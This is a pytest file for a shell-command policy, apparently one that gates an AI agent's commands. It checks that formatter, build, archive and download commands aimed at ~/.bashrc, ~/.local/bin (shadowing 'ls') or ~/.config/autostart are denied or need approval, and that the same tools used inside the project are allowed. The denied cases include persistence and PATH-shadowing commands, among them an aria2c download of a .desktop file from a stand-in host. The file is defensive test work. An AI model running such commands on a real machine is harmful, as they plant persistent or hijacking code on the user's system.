"""Threat: formatters and fixers rewrite the files they are given, and builds, downloads and
archive tools write where their output option points. `black ~/.bashrc`, `npx prettier --write
~/.bashrc`, `ruff check --fix`, `gofmt -w`, and `gcc -o ~/.local/bin/ls x.c` (a program that
shadows `ls` on the PATH), `go build -o`, `cargo build --target-dir`, `tsc --outDir`, `aria2c
-d` and `7z x -oDIR` were all allowed: none of these writes was modelled.

Invariant: a formatter in writing mode writes every file it is given, and an output option's
file or directory is written; checking, and building into the project, stay allowed."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from crustcore_nano.policy.types import Verdict

BashVerdict = Callable[[str], tuple[Verdict, str]]  # the `bash` fixture of conftest.py
_STARTUP = "builtin:shell-startup-files"
_PERSIST = "builtin:persistence"
_OUTSIDE = "approval:write-outside-workspace"


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("black /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("npx prettier --write /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("npx eslint --fix /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("ruff check --fix /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("ruff format /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("gofmt -w /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("clang-format -i /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("terraform fmt /home/u/.bashrc", Verdict.DENY, _STARTUP),
        ("gcc -o /home/u/.local/bin/ls x.c", Verdict.ASK, _OUTSIDE),
        ("gcc -o/home/u/.local/bin/ls x.c", Verdict.ASK, _OUTSIDE),
        ("go build -o /home/u/.local/bin/ls .", Verdict.ASK, _OUTSIDE),
        ("cargo build --target-dir /home/u/.config/autostart", Verdict.DENY, _PERSIST),
        ("tsc --outDir /home/u/.config/autostart", Verdict.DENY, _PERSIST),
        ("npx tsc --outDir /home/u/.config/autostart", Verdict.DENY, _PERSIST),
        ("aria2c -d ~/.config/autostart https://x.example/a.desktop", Verdict.DENY, _PERSIST),
        ("7z x x.7z -o/home/u/.config/autostart", Verdict.DENY, _PERSIST),
    ],
)
def test_a_write_outside_the_project_is_judged(
    bash: BashVerdict, command: str, verdict: Verdict, rule: str
) -> None:
    assert bash(command) == (verdict, rule)


@pytest.mark.parametrize(
    "command",
    [
        "black --check /home/u/.bashrc",
        "black --config ~/.config/black src",
        "ruff check src",
        "ruff check --fix src tests",
        "ruff format .",
        "prettier --check .",
        'npx prettier --write "src/**/*.ts"',
        "npx eslint --fix --ext .ts src",
        "gofmt -l .",
        "gcc -O2 -o build/app src/main.c",
        "go build -o bin/app ./cmd/app",
        "tsc --outDir dist",
        "terraform fmt -check",
        "isort --profile black src",
        "7z x vendor.7z -ovendor",
    ],
)
def test_checking_and_building_in_the_project_stay_allowed(bash: BashVerdict, command: str) -> None:
    assert bash(command) == (Verdict.ALLOW, "allow")
